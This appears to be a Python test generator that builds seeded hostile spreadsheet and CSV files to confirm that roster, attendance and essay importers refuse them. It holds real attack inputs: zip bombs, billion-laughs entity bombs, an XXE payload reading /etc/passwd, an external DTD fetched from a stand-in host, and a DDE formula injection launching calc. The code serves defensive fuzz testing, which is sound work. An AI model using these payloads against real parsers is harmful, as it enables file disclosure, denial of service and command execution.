"""A generator of hostile files for each importer: seeded, so every run tries the same files.

Each file is meant to be refused, and each kind of damage is built so that it is
refused whatever the random draw: damage that might leave a usable file (a bit flip in
a zip header, a CSV in a legacy encoding) is applied on top of content that is refused
anyway (poison rows, a package for an unknown campaign), while damage that must be
refused by itself (truncated or bombed zips, entity declarations, NUL bytes, edited
`_meta` of a signed package) starts from a valid file.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from hostile_world import World, base_rows, poison_rows
from hostile_xlsx import (
    Entry,
    Raw,
    bomb_stream,
    read_entries,
    replace_part,
    sheet_entries,
    sheet_xlsx,
    sheet_xml,
    zip_bytes,
)

IMPORTERS = ("roster", "attendance", "essays", "package", "plan")


@dataclass(frozen=True)
class Hostile:
    importer: str
    number: int
    kind: str
    suffix: str
    data: bytes
    row_expected: bool = False  # the refusal names a row (and column)

    @property
    def name(self) -> str:
        return f"{self.importer}-{self.number:04d}-{self.kind}{self.suffix}"


Maker = Callable[[random.Random, World, str], tuple[str, bytes, bool]]

# -- damage to bytes ----------------------------------------------------------------


def flip_bits(rng: random.Random, data: bytes, count: int) -> bytes:
    out = bytearray(data)
    for _ in range(count):
        at = rng.randrange(len(out))
        out[at] ^= 1 << rng.randrange(8)
    return bytes(out)


def truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(len(data))]


def csv_bytes(rows: list[list[object]], *, encoding: str = "utf-8", sep: str = ",") -> bytes:
    def field(value: object) -> str:
        text = "" if value is None else str(value)
        return (
            f'"{text.replace(chr(34), chr(34) * 2)}"'
            if any(c in text for c in f'{sep}"\n')
            else text
        )

    return "\n".join(sep.join(field(v) for v in row) for row in rows).encode(encoding, "replace")


def poisoned(kind: str, extra: list[list[object]] | None = None) -> list[list[object]]:
    rows = base_rows(kind) + (extra or [])
    return rows + poison_rows(kind, len(rows))


# -- tabular importers: roster, attendance, essays -------------------------------------

_NAME_COLUMN = {"roster": 1, "attendance": 2, "essays": 2}
_STATUS_COLUMN = {"roster": 4, "attendance": 3, "essays": 4}


def t_xlsx_bitflip(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    return ".xlsx", flip_bits(rng, sheet_xlsx(poisoned(kind)), rng.randint(1, 8)), False


def t_xlsx_truncate(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    return ".xlsx", truncate(rng, sheet_xlsx(base_rows(kind))), False


def t_csv_bitflip(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    return ".csv", flip_bits(rng, csv_bytes(poisoned(kind)), rng.randint(1, 3)), False


def t_zip_bomb(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    return ".xlsx", zip_bomb(rng, sheet_entries("<worksheet/>")), False


def zip_bomb(rng: random.Random, parts: list[Entry]) -> bytes:
    """One of: a real 60 MB sheet in 60 KB, sizes that lie high, sizes that lie low,
    ten thousand entries, twenty sheets just under the per-entry limit."""
    variant = rng.randrange(5)
    keep = [e for e in parts if "worksheets/" not in e.name]
    prefix = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    suffix = b"</sheetData></worksheet>"
    sheet = "xl/worksheets/sheet1.xml"
    if variant == 0:
        data, crc, size = bomb_stream(60, prefix, suffix)
        return zip_bytes([*keep, Entry(sheet, compressed=data, crc=crc, size=size)])
    if variant == 1:
        data, crc, _ = bomb_stream(1, prefix, suffix)
        return zip_bytes([*keep, Entry(sheet, compressed=data, crc=crc, size=400 << 20)])
    if variant == 2:
        data, crc, _ = bomb_stream(60, prefix, suffix)
        return zip_bytes([*keep, Entry(sheet, compressed=data, crc=crc, size=1 << 20)])
    if variant == 3:
        filler = [Entry(f"xl/media/pad{i}.bin", b"") for i in range(10_001)]
        return zip_bytes([*parts, *filler])
    data, crc, size = bomb_stream(4, prefix, suffix)
    many = [
        Entry(f"xl/worksheets/sheet{i}.xml", compressed=data, crc=crc, size=size)
        for i in range(1, 40)
    ]
    return zip_bytes([*keep, *many])


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_PARAM = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>'
_QUADRATIC = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + "A" * 50_000 + '">]>'


def entity_bomb(rng: random.Random, data: bytes, part: str | None = None) -> bytes:
    """An entity declaration (billion laughs, external file or URL, quadratic blow-up)
    placed before the root element of one XML part of the workbook."""
    prolog = rng.choice((_LAUGHS, _XXE, _PARAM, _QUADRATIC))
    use = {_LAUGHS: "&lol9;", _XXE: "&xxe;", _PARAM: "", _QUADRATIC: "&a;" * 200}[prolog]
    names = [e.name for e in read_entries(data) if e.name.endswith(".xml")]
    target = part or rng.choice(names)

    def inject(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        if text.startswith("<?xml"):
            text = text[text.index("?>") + 2 :]
        close = text.index(">")
        return (
            prolog
            + text[: close + 1]
            + (f"<x>{use}</x>" if "/>" not in text[close - 1 : close + 1] else "")
            + text[close + 1 :]
        ).encode()

    return replace_part(data, target, inject)


def t_entity_bomb(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    return ".xlsx", entity_bomb(rng, sheet_xlsx(poisoned(kind))), False


# Cells of a type the column does not hold: each is reported on its row.
_WRONG_CELLS = (
    Raw('<c r="{ref}" t="b"><v>1</v></c>'),
    Raw('<c r="{ref}" t="e"><v>#N/A</v></c>'),
    Raw('<c r="{ref}" t="e"><v>#REF!</v></c>'),
    Raw('<c r="{ref}" t="n"><v>1e308</v></c>'),
    Raw('<c r="{ref}" t="n"><v>-0</v></c>'),
    Raw('<c r="{ref}" s="99"><v>45000</v></c>'),
    Raw('<c r="{ref}" t="inlineStr"><is><r><t>Nguyễn</t></r><r><t> Văn</t></r></is></c>'),
    3.14159,
    -7,
    True,
)
# Cells that are not valid XLSX at all: the file is refused as damaged, which is right.
_MALFORMED_CELLS = (
    Raw('<c r="{ref}" t="d"><v>2026-13-45T99:99:99</v></c>'),
    Raw('<c r="{ref}" t="s"><v>99999</v></c>'),
    Raw('<c r="{ref}" t="n"><v>NaN</v></c>'),
    Raw('<c r="{ref}" t="n"><v>12abc</v></c>'),
)


def _row_with(kind: str, column: int, value: object, number: int) -> list[object]:
    row = list(base_rows(kind)[1])
    row[0] = number
    row[column] = value
    return row


def t_wrong_types(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    malformed = rng.random() < 0.25
    cells = _MALFORMED_CELLS if malformed else _WRONG_CELLS
    extra = [
        _row_with(kind, rng.randrange(1, 5), rng.choice(cells), 90 + i)
        for i in range(rng.randint(1, 4))
    ]
    return ".xlsx", sheet_xlsx(poisoned(kind, extra)), not malformed


_FORMULAS = (
    Raw('<c r="{ref}"><f>HYPERLINK("http://192.0.2.1/","Nguyễn Văn An")</f><v>0</v></c>'),
    Raw('<c r="{ref}" t="str"><f>CONCATENATE("Nguyễn"," Văn")</f><v>Nguyễn Văn</v></c>'),
    Raw('<c r="{ref}"><f t="array" ref="{ref}">SUM(1)</f><v>1</v></c>'),
    Raw('<c r="{ref}"><f t="shared" si="0" ref="{ref}">A1</f><v>1</v></c>'),
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "\t=1+1",
    "\r=1",
)


def t_formulas(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    column = rng.choice((_NAME_COLUMN[kind], _STATUS_COLUMN[kind], 1))
    extra = [_row_with(kind, column, rng.choice(_FORMULAS), 90)]
    return ".xlsx", sheet_xlsx(poisoned(kind, extra)), True


def t_huge_cells(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    letters = "Nguyễn Văn " + "ĂâĐêÔơƯ" * 14_300
    column = rng.choice((_NAME_COLUMN[kind], _STATUS_COLUMN[kind], 4 if kind != "roster" else 2))
    extra = [_row_with(kind, column, letters[: rng.randint(100_000, 100_010)], 90)]
    return ".xlsx", sheet_xlsx(poisoned(kind, extra)), True


_CONTROLS = [chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32), 0x7F)]
_INVISIBLE = ["\u202e", "\u200b", "\u200d", "\ufeff", "\u2028", "\ufffe", "\u00ad"]


def t_control_chars(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    name = list("Nguyễn Văn Lạ")
    for _ in range(rng.randint(1, 3)):
        ch = rng.choice(_CONTROLS + _INVISIBLE)
        escaped = f"_x{ord(ch):04X}_" if ch in _CONTROLS else ch
        name.insert(rng.randrange(len(name) + 1), escaped)
    extra = [_row_with(kind, _NAME_COLUMN[kind], "".join(name), 90)]
    return ".xlsx", sheet_xlsx(poisoned(kind, extra)), False


def t_csv_encoding(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    rows = poisoned(kind)
    choice = rng.randrange(8)
    if choice == 0:
        return ".csv", csv_bytes(rows, encoding="utf-16-le"), False
    if choice == 1:
        return ".csv", "\ufeff".encode("utf-16-be") + csv_bytes(rows, encoding="utf-16-be"), False
    if choice == 2:
        return ".csv", csv_bytes(rows, encoding="cp1258"), False
    if choice == 3:
        return ".csv", csv_bytes(rows, encoding="latin-1"), False
    if choice == 4:
        text = csv_bytes(rows)
        half = len(text) // 2
        return ".csv", text[:half] + csv_bytes(rows, encoding="cp1258")[half:], False
    if choice == 5:  # invalid UTF-8: overlong forms, lone continuation bytes, surrogates
        junk = rng.choice((b"\xc0\xaf", b"\x80\x80", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"))
        text = csv_bytes(rows)
        at = rng.randrange(len(text))
        return ".csv", text[:at] + junk + text[at:], False
    if choice == 6:  # a TCVN3-looking file: bytes of the .VnTime range in every name
        text = csv_bytes(rows).replace("ễ".encode(), b"\xd6").replace("ă".encode(), b"\xa8")
        return ".csv", text, False
    return ".csv", b"\xef\xbb\xbf" + csv_bytes(rows, sep=rng.choice(";\t|")), False


def t_csv_controls(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    text = csv_bytes(poisoned(kind))
    at = rng.randrange(len(text))
    junk = bytes(rng.choice(range(0, 32)) for _ in range(rng.randint(1, 6)))
    if rng.random() < 0.4:
        junk += b"\x00"
    return ".csv", text[:at] + junk + text[at:], False


def t_wrong_kind(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    good = sheet_xlsx(base_rows(kind))
    choice = rng.randrange(9)
    options: list[tuple[str, bytes]] = [
        (".csv", good),  # a workbook renamed .csv
        (".xlsx", csv_bytes(base_rows(kind))),  # a CSV renamed .xlsx
        (
            ".xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(600)),
        ),
        (".xls", good),
        (".xlsx", bytes(rng.randrange(256) for _ in range(rng.randint(1, 4000)))),
        (".xlsx", b""),
        (".csv", b"\xef\xbb\xbf"),
        (".ods", good),
        (".xlsx", b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(300))),
    ]
    suffix, data = options[choice]
    return suffix, data, False


def t_structure(rng: random.Random, w: World, kind: str) -> tuple[str, bytes, bool]:
    """Well-formed zips with the wrong inside: no sheet, a header below row 20, 300 columns,
    a cell at XFD1048576, a sheet with 100,001 rows (rarely: it is slow by design)."""
    rows = base_rows(kind)
    choice = rng.randrange(6 if rng.random() < 0.98 else 7)
    if choice == 0:
        return (
            ".xlsx",
            zip_bytes([e for e in sheet_entries("") if "worksheets" not in e.name]),
            False,
        )
    if choice == 1:
        return ".xlsx", sheet_xlsx([[f"Tiêu đề {i}"] for i in range(25)] + rows), False
    if choice == 2:
        return ".xlsx", sheet_xlsx([[*r, *(["x"] * 300)] for r in rows]), False
    if choice == 3:
        far = Raw('<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>')
        return ".xlsx", sheet_xlsx([*rows, [far]]), False
    if choice == 4:
        return ".xlsx", zip_bytes(sheet_entries("<worksheet><sheetData><row")), False
    if choice == 5:  # no [Content_Types].xml
        parts = sheet_entries(sheet_xml(rows))
        return ".xlsx", zip_bytes([e for e in parts if e.name != "[Content_Types].xml"]), False
    many = [[i, "1"] for i in range(100_002)]
    return ".xlsx", sheet_xlsx(rows[:1] + many), False


TABULAR: dict[str, Maker] = {
    "xlsx_bitflip": t_xlsx_bitflip,
    "xlsx_truncate": t_xlsx_truncate,
    "csv_bitflip": t_csv_bitflip,
    "zip_bomb": t_zip_bomb,
    "entity_bomb": t_entity_bomb,
    "wrong_types": t_wrong_types,
    "formulas": t_formulas,
    "huge_cells": t_huge_cells,
    "control_chars": t_control_chars,
    "csv_encoding": t_csv_encoding,
    "csv_controls": t_csv_controls,
    "wrong_kind": t_wrong_kind,
    "structure": t_structure,
}
